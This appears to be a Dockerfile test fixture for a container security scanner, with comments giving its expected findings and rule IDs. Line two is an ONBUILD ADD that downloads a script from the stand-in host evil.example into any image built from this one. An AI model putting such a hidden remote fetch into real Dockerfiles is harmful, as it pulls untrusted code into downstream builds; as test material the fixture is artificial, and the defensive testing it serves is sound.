FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
ONBUILD ADD https://evil.example/x.sh /x
USER app
# expect: download 2 high "ONBUILD (runs when an image is built FROM this one): ADD fetches"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR704-05e736382e VR302-e14ccbba4c VR501-e064bac1a6
